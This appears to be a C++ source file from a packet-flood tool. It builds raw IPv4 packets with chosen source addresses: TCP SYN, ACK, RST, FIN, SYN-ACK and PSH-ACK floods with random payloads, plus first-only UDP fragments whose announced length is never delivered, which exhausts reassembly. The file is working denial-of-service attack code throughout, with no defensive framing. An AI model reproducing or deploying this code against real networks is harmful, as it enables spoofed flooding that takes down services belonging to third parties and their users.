#include "attack_packet.hh"

#include <algorithm>
#include <cstring>

#include "syn_packet.hh"
#include "wire/endian.hh"
#include "wire/ipv4.hh"
#include "wire/tcp.hh"

namespace kbt::flood {
namespace {

void fill_payload(std::uint64_t seed, std::span<std::byte> out) noexcept {
  fast_random r(seed);
  for (std::size_t i = 0; i < out.size(); i += 8) {
    const std::uint64_t v = r.next();
    std::memcpy(out.data() + i, &v, std::min<std::size_t>(8, out.size() - i));
  }
}

std::uint8_t tcp_flags(attack_kind k) noexcept {
  using namespace wire::tcp_flag;
  switch (k) {
    case attack_kind::syn: return kSyn;
    case attack_kind::ack: return kAck;
    case attack_kind::rst: return kRst;
    case attack_kind::fin: return kFin | kAck;
    case attack_kind::syn_ack: return kSyn | kAck;
    case attack_kind::psh_ack: return kPsh | kAck;
    case attack_kind::frag: return 0;
  }
  return 0;
}

std::size_t write_ip(const attack_spec& s, std::uint8_t proto, std::size_t payload, bool mf,
                     std::span<std::byte> out) noexcept {
  wire::ipv4_repr ip;
  ip.src = s.src;
  ip.dst = s.dst;
  ip.protocol = proto;
  ip.id = s.ip_id;
  ip.dont_fragment = !mf;
  ip.more_fragments = mf;
  ip.total_length = static_cast<std::uint16_t>(wire::kIpv4MinHeaderLen + payload);
  if (!wire::emit_ipv4_header(ip, wire::tx_checksum::full, out)) return 0;
  return ip.total_length;
}

// RFC 791 §3.2: the first fragment (offset 0, MF) of a UDP datagram whose
// other fragments never come: a UDP header announcing more than is sent.
std::size_t write_frag(const attack_spec& s, std::span<std::byte> out) noexcept {
  const std::size_t data = std::max<std::size_t>(8, (s.payload_len + 7U) / 8U * 8U);
  const std::size_t len = wire::kIpv4MinHeaderLen + data;
  if (out.size() < len) return 0;
  auto l4 = out.subspan(wire::kIpv4MinHeaderLen, data);
  fill_payload(s.payload_seed, l4);
  wire::store_be<std::uint16_t>(l4.data(), s.src_port);
  wire::store_be<std::uint16_t>(l4.data() + 2, s.dst_port);
  wire::store_be<std::uint16_t>(l4.data() + 4, static_cast<std::uint16_t>(data + 1480));
  wire::store_be<std::uint16_t>(l4.data() + 6, 0);  // RFC 768: no checksum (it needs all of it)
  return write_ip(s, wire::kIpProtoUdp, data, true, out);
}

}  // namespace

std::optional<attack_kind> parse_attack_kind(std::string_view n) noexcept {
  for (auto k : {attack_kind::syn, attack_kind::ack, attack_kind::rst, attack_kind::fin,
                 attack_kind::syn_ack, attack_kind::psh_ack, attack_kind::frag}) {
    if (n == to_string(k)) return k;
  }
  return std::nullopt;
}

std::string_view to_string(attack_kind k) noexcept {
  switch (k) {
    case attack_kind::syn: return "syn";
    case attack_kind::ack: return "ack";
    case attack_kind::rst: return "rst";
    case attack_kind::fin: return "fin";
    case attack_kind::syn_ack: return "syn-ack";
    case attack_kind::psh_ack: return "psh-ack";
    case attack_kind::frag: return "frag";
  }
  return "?";
}

std::size_t write_attack(attack_kind kind, const attack_spec& s, std::span<std::byte> out) noexcept {
  if (s.payload_len > kMaxAttackPayload) return 0;
  if (kind == attack_kind::frag) return write_frag(s, out);
  if (kind == attack_kind::syn && s.payload_len == 0) {
    return write_syn({s.src, s.dst, s.src_port, s.dst_port, s.seq, s.tsval, s.ip_id}, out);
  }
  // A PSH without data says nothing: at least one byte.
  const std::size_t data = kind == attack_kind::psh_ack ? std::max<std::uint16_t>(1, s.payload_len)
                                                        : s.payload_len;
  wire::tcp_repr t;
  t.src_port = s.src_port;
  t.dst_port = s.dst_port;
  t.seq = wire::seq32{s.seq};
  t.ack = wire::seq32{(tcp_flags(kind) & wire::tcp_flag::kAck) != 0 ? s.ack : 0};
  t.flags = tcp_flags(kind);
  t.window = kind == attack_kind::rst ? 0 : 64240;
  const std::size_t hdr = wire::tcp_header_len(t);
  if (out.size() < wire::kIpv4MinHeaderLen + hdr + data) return 0;
  auto payload = out.subspan(wire::kIpv4MinHeaderLen + hdr, data);
  fill_payload(s.payload_seed, payload);
  if (!wire::emit_tcp(t, s.src, s.dst, payload, wire::tx_checksum::full,
                      out.subspan(wire::kIpv4MinHeaderLen))) {
    return 0;
  }
  return write_ip(s, wire::kIpProtoTcp, hdr + data, false, out);
}

}  // namespace kbt::flood
